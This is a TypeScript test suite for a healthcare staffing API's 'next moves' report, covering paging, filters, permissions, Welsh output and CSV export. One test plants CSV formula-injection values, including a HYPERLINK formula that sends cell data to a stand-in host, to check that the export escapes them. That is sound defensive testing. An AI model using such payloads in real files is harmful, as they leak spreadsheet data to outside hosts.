import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";
import type * as z from "zod";
import type { moveShape } from "#routes/reports/next-moves.ts";
import { bodyOf, type Page, type Standing, textOf } from "../support/bodies.ts";
import { correctCardiology, loadCardiology, plan, plansFile, staffFile } from "../support/cardiology.ts";
import { everythingIn } from "../support/kept.ts";
import { type Caller, type TestPorth, testPorth } from "../support/porth.ts";
import { loadSampleBoard } from "../support/sample-board.ts";

type Move = z.output<typeof moveShape>;

let porth: TestPorth;
let reader: Caller;

const list = async (query = "", caller = reader): Promise<Page<Move>> => {
  const response = await caller.get(`/v1/next-moves${query}`);
  expect(response.status, query).toBe(200);
  return bodyOf<Page<Move>>(response);
};

const everything = async (query = "", caller = reader): Promise<readonly Move[]> => {
  const all: Move[] = [];
  for (let cursor: string | null = ""; cursor !== null; ) {
    const after: string = cursor && `&cursor=${encodeURIComponent(cursor)}`;
    const { items, next }: Page<Move> = await list(`?limit=7${query}${after}`, caller);
    all.push(...items);
    cursor = next;
  }
  return all;
};

const placeOf = ({ service_group, owner, department, code, severity }: Move) =>
  [service_group, owner, department.code, code, severity].join("/");

beforeAll(async () => {
  porth = await testPorth();
  await loadSampleBoard(porth, porth.deps.today());
  reader = await porth.as(["Report.Read"]);
});

describe("GET /v1/next-moves", () => {
  it("has every person of every finding of the gate, once, with the role that the gate names", async () => {
    const detail = await porth.as(["Gate.Ask", "Gate.ReadDetail"]);
    const found: string[] = [];
    const { items } = await bodyOf<Page<{ code: string }>>(await detail.get("/v1/departments?limit=200"));
    for (const { code } of items) {
      const { reasons, warnings } = await bodyOf<Standing>(
        await detail.get(`/v1/departments/${code}/standing`),
      );
      for (const finding of [...reasons, ...warnings]) {
        const who = finding.people?.map((one) => `${one.waiting_on} ${one.assignment_number}`) ?? [];
        const whole = finding.count === 0 ? [`${finding.owner} all`] : who;
        found.push(...whole.map((one) => `${code} ${finding.code} ${finding.severity} ${one}`));
      }
    }
    const listed = (await everything("", detail)).flatMap((move) => {
      const who = move.people?.map((one) => one.assignment_number) ?? [];
      const whole = move.count === 0 ? ["all"] : who;
      return whole.map((one) => `${move.department.code} ${move.code} ${move.severity} ${move.owner} ${one}`);
    });
    expect(listed.toSorted()).toEqual(found.toSorted());
    expect(listed.length).toBeGreaterThan(50);
  });

  it("gives every page in one order, each linked to the next", async () => {
    const all = await everything();
    const places = all.map(placeOf);
    expect(places).toEqual(places.toSorted((a, b) => (a < b ? -1 : 1)));
    expect(new Set(places).size).toBe(places.length);
    expect((await list("?limit=200")).items).toEqual(all.slice(0, 200));
  });

  it("gives what waits for one role, and in one service group", async () => {
    const all = await everything();
    const mine = await everything("&owner=clinical_director&service_group=MOR");
    expect(mine.length).toBeGreaterThan(3);
    expect(mine).toEqual(
      all.filter(({ owner, service_group }) => owner === "clinical_director" && service_group === "MOR"),
    );
  });

  it("names people for Gate.ReadDetail alone", async () => {
    for (const move of await everything()) expect(move).not.toHaveProperty("people");
    const [move] = (await list("?limit=1", await porth.as(["Gate.ReadDetail"]))).items;
    expect(move?.people).toHaveLength(move?.count ?? 0);
  });

  it("tells it in Welsh", async () => {
    const welsh = await reader.get("/v1/next-moves?owner=clinical_director&limit=1&lang=cy");
    expect(welsh.headers.get("content-language")).toBe("cy");
    const [move] = (await bodyOf<Page<Move>>(welsh)).items;
    expect(move?.message).toMatch(/meddyg/);
  });

  it.each(["?owner=nobody", "?limit=0", "?format=xml", "?lang=both", "?department=CARD"])(
    "400 for %s",
    async (query) => {
      expect((await reader.get(`/v1/next-moves${query}`)).status).toBe(400);
    },
  );

  it("401 without a token, 403 without the role, and keeps nothing", async () => {
    const before = await everythingIn(porth.db);
    await list();
    expect((await porth.anyone.get("/v1/next-moves")).status).toBe(401);
    expect((await (await porth.as(["Payroll.Ask"])).get("/v1/next-moves")).status).toBe(403);
    expect(await everythingIn(porth.db)).toEqual(before);
  });
});

describe("as CSV", () => {
  const csv = async (query: string, caller = reader) => {
    const response = await caller.get(`/v1/next-moves?format=csv${query}`);
    expect(response.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(response.headers.get("content-disposition")).toBe('attachment; filename="next-moves.csv"');
    return parse(await textOf(response), { columns: true, bom: true }) as Record<string, string>[];
  };

  it("has all that JSON has, at once, whatever the limit", async () => {
    const rows = await csv("&limit=1");
    const all = await everything();
    expect(rows.map((row) => [row.department, row.code, row.count, row.since, row.would_clear])).toEqual(
      all.map((move) => [
        move.department.code,
        move.code,
        String(move.count),
        move.since ?? "",
        move.would_clear ? "yes" : "no",
      ]),
    );
    expect(rows[0]).not.toHaveProperty("people");
  });

  it("begins no formula, whatever people and departments are called", async () => {
    const other = await testPorth();
    const steward = await other.as(["Register.Write"]);
    const formula = '=HYPERLINK("http://x"&A1)';
    const department = `CARD,"${formula.replaceAll('"', '""')}",,MOR,`;
    for (const [kind, file] of [
      ["departments", `code,name_en,name_cy,service_group,aliases\n${department}\n`],
      ["staff-list", staffFile("10001,20001,Invented,@SUM(A1),Consultant,Permanent,CARD,2019-02-04")],
      ["job-plans", plansFile(plan("JP-1", "10001", "Draft", "2026-04-01"))],
    ] as const)
      expect((await steward.load(kind, file)).status).toBe(201);
    const [row] = await csv("", await other.as(["Gate.ReadDetail"]));
    expect([row?.department_name, row?.people]).toEqual([`'${formula}`, "'@SUM(A1) Invented (20001)"]);
  });
});

it("says what clearing it would do, and is gone once it is done", async () => {
  const other = await testPorth();
  await loadCardiology(other);
  const caller = await other.as(["Report.Read"]);
  expect((await list("?owner=clinical_director", caller)).items).toMatchObject([
    {
      department: { code: "CARD" },
      code: "plan_out_of_date",
      severity: "block",
      count: 1,
      since: "2026-08-31",
      longest_days_overdue: 83,
      would_clear: true,
      owner_would_clear: true,
    },
  ]);
  await correctCardiology(other);
  expect((await list("?owner=clinical_director", caller)).items).toEqual([]);
});
